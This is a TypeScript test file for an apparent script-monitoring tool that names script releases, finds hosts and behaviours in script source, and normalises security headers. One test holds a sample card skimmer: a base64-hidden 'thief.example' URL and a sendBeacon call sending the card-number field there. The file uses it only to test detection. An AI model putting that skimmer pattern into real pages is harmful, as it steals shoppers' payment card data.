import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { scriptKey } from '../inspection.ts';
import { namesInScript } from './names-in-script.ts';
import { releaseName } from './script-name.ts';
import { securityHeadersOf } from './security-headers.ts';

describe('the name that releases share', () => {
  it.each([
    ['https://s.example/app.3f2a9c.js', 'https://s.example/app.*.js'],
    ['https://s.example/_next/static/chunks/main-182b6b13bdad92e3.js', 'https://s.example/_next/static/chunks/main-*.js'],
    ['https://s.example/assets/index-DkY7x2Qp.js', 'https://s.example/assets/index-*.js'],
    ['https://s.example/vendors~checkout.8e1c2d44.chunk.js', 'https://s.example/vendors~checkout.*.chunk.js'],
    ['https://s.example/jquery-3.7.1.min.js', 'https://s.example/jquery-3.7.1.min.js'],
    ['https://s.example/checkout.js', 'https://s.example/checkout.js'],
    ['https://s.example/js/3f2a9c1d77b1e0aa.js', 'https://s.example/js/3f2a9c1d77b1e0aa.js'],
    ['https://s.example/bootstrap.bundle.min.js', 'https://s.example/bootstrap.bundle.min.js'],
    ['https://js.stripe.com/v3/', 'https://js.stripe.com/v3/'],
  ])('of %s', (url, name) => expect(releaseName(url)).toBe(name));

  it('never moves to another host or folder, and is its own name', () => {
    fc.assert(
      fc.property(fc.webUrl(), (url) => {
        const name = releaseName(url);
        expect(name.slice(0, name.lastIndexOf('/'))).toBe(url.slice(0, url.lastIndexOf('/')));
        expect(releaseName(name)).toBe(name);
      }),
    );
    expect(scriptKey({ party: 'inline', url: 'https://s.example/app.3f2a9c.js', shape: 'ab'.repeat(32) })).toBe(
      `inline:${'ab'.repeat(12)}`,
    );
  });
});

describe('what a script names', () => {
  it('is found plain, in base64, in escapes and without a scheme', () => {
    const hidden = Buffer.from('https://thief.example/collect').toString('base64');
    const source = `var a=atob("${hidden}"),b="\\x68ttps:\\/\\/two.example\\/x",c='//three.example/y';navigator.sendBeacon(a,document.querySelector("[autocomplete=cc-number]").value)`;
    expect(namesInScript(source)).toEqual({
      hosts: ['thief.example', 'three.example', 'two.example'],
      does: ['beacon', 'encode', 'typed'],
      fields: ['card'],
    });
    expect(namesInScript('// see docs at example\nx=a/b//c.d\n;y=1')).toEqual({ hosts: [], does: [], fields: [] });
  });

  it('is found in time, whatever is written to be slow', () => {
    for (const slow of [
      '"'.repeat(400_000),
      '//a.'.repeat(200_000),
      `"${'A'.repeat(800_000)}`,
      '\\x41'.repeat(300_000),
      '[.cc'.repeat(200_000),
    ]) {
      const before = performance.now();
      namesInScript(slow);
      expect(performance.now() - before).toBeLessThan(3_000);
    }
  });
});

it('security headers are compared without what is new at every visit', () => {
  const of = (nonce: string) =>
    securityHeadersOf({ 'Content-Security-Policy': `script-src  'nonce-${nonce}'; report-uri /r?visit=${nonce}`, 'set-cookie': 'x' });
  expect(of('one')).toEqual(of('two'));
  expect(of('one').get('content-security-policy')).toBe("script-src 'nonce-*'; report-uri /r");
  expect(of('one').get('x-frame-options')).toBe('');
  expect(of('one').has('set-cookie')).toBe(false);
});
